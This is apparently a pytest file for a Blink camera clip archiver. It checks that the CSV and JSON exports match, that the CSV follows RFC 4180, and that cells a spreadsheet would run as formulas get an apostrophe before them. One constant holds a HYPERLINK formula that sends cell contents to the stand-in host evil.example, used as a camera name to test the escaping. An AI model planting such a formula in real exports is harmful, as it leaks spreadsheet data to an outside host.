"""clips.csv and clips.json say the same of each clip, and no spreadsheet runs what a camera is called."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from blink_archive.archive import feed
from blink_archive.archive.catalog import Catalog
from blink_archive.archive.export.tables import FIELDS, cell

from ..helpers import archive_clip, clip_row, list_items, make_item
from .helpers import choose, papers, table

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"Front door")'


def archived(catalog: Catalog, number: int = 7000001, **changes: object) -> None:
    list_items(catalog, make_item(number, **changes))
    archive_clip(catalog, str(number))


def test_both_say_all_that_is_known(catalog: Catalog, tmp_path: Path) -> None:
    """Each field is there under its name in both; clips.json has Blink's own entry, and what people said."""
    archived(catalog, raw={"id": 7000001, "x": ["as", "sent"]}, labels=("person",))
    feed.update_row(
        catalog,
        clip_row(catalog),
        {
            "note": "two\nlines, and a comma",
            "own_labels": '["parcel"]',
            "starred_at": "2026-11-24T12:00:00.000000Z",
            "verified_at": "2026-11-24T13:00:00.000000Z",
            "unproven": "odd",
        },
    )
    choose(catalog)
    folder = papers(catalog, tmp_path / "papers", selection="camera Front door")
    row = clip_row(catalog)
    expected = {
        "clip": "7000001",
        "origin": "cloud",
        "created_at": "2026-11-23T19:52:07.000000Z",
        "created_local": "2026-11-23T14:52:07-05:00",
        "time_zone": "America/New_York",
        "network": "Home",
        "network_id": 5,
        "camera": "Front door",
        "camera_id": 41,
        "source": "pir",
        "duration": 4.5,
        "bytes": 4,
        "sha256": row["sha256"],
        "archived_at": row["archived_at"],
        "verified_at": "2026-11-24T13:00:00.000000Z",
        "unproven": "odd",
        "deleted_at_blink": None,
        "deletion_rests_on": None,
        "labels": ["person"],
        "description": None,
        "starred": True,
        "own_labels": ["parcel"],
        "note": "two\nlines, and a comma",
        "path": row["path"],
        "thumbnail": row["thumbnail_path"],
        "thumbnail_sha256": row["thumbnail_sha256"],
    }
    document = json.loads((folder / "clips.json").read_text(encoding="utf-8"))
    assert document["clips"] == [expected | {"item": {"id": 7000001, "x": ["as", "sent"]}}]
    assert document["selection"] == "camera Front door"
    assert "unchanged since download" in document["claim"]
    (line,) = table(folder / "clips.csv")
    assert tuple(line) == FIELDS == tuple(expected)
    texts = {name: "" if value is None else str(value) for name, value in expected.items()}
    assert line == texts | {"labels": '["person"]', "own_labels": '["parcel"]', "starred": "1"}


def test_the_table_is_rfc_4180(catalog: Catalog, tmp_path: Path) -> None:
    """UTF-8, lines that end in CRLF, a header, and the clips in the order of recording."""
    archived(catalog, 7000002, device_name="Café 🦊")
    archived(catalog, 7000001, created_at=make_item().created_at.replace(hour=3))  # type: ignore[union-attr]
    choose(catalog)
    data = (papers(catalog, tmp_path / "papers") / "clips.csv").read_bytes()
    header, first, second, rest = data.decode().split("\r\n")
    assert header == ",".join(FIELDS)
    assert (first[:8], second[:8], rest) == ("7000001,", "7000002,", "")
    assert "Café 🦊" in second


@pytest.mark.parametrize("sign", ["=", "+", "-", "@", "\t=", "\r=", "\uff1d", "\uff0b", "\uff0d", "\uff20"])
def test_no_cell_begins_a_formula(sign: str) -> None:
    """Whatever a spreadsheet would run has an apostrophe before it, also after what ends a cell elsewhere."""
    assert str(cell(f"{sign}1+1")).startswith("'")
    assert str(cell(f"a;{sign}1+1")) in (f"a;'{sign}1+1", f"a;{sign[0]}'{sign[1:]}1+1")


def test_what_is_no_formula_stays() -> None:
    """Times, paths, hyphens within a text and numbers are as they were."""
    for value in ("2026-11-23T14:52:07-05:00", "2026/11/23/a-b_1.mp4", "a = b", "a;b", "", 4.5, None):
        assert cell(value) == value


def test_a_camera_called_like_a_formula(catalog: Catalog, tmp_path: Path) -> None:
    """In clips.csv and missing.csv it is harmless, in clips.json and the catalog it is what it was."""
    archived(catalog, device_id=77, device_name=EVIL)
    list_items(catalog, make_item(7000009, device_id=77, device_name=EVIL))
    choose(catalog)
    folder = papers(catalog, tmp_path / "papers")
    for name in ("clips.csv", "missing.csv"):
        assert table(folder / name)[0]["camera"] == f"'{EVIL}"
    assert json.loads((folder / "clips.json").read_text(encoding="utf-8"))["clips"][0]["camera"] == EVIL


@pytest.mark.parametrize("rests_on", ["tombstone", "absence", "answer", "listing"])
def test_a_deletion_tells_what_it_rests_on(catalog: Catalog, tmp_path: Path, rests_on: str) -> None:
    """Blink's answer to a request is less than its list, and each list is called what it is."""
    archived(catalog)
    row, at = clip_row(catalog), "2026-11-24T15:00:00.000000Z"
    match rests_on:
        case "tombstone":
            list_items(catalog, make_item(deleted=True))
            at = clip_row(catalog)["remote_deleted_at"]
        case "absence":
            at = "2026-11-24T12:00:00.000000Z"
            feed.record_departure(
                catalog, row, now=make_item().created_at.replace(day=24, hour=12, minute=0, second=0)
            )  # type: ignore[union-attr]
        case "answer":
            feed.update_row(catalog, row, {"delete_confirmed_at": at})
        case "listing":
            feed.update_row(catalog, row, {"remote_deleted_at": at})
    choose(catalog)
    (line,) = table(papers(catalog, tmp_path / "papers") / "clips.csv")
    assert (line["deleted_at_blink"], line["deletion_rests_on"]) == (at, rests_on)
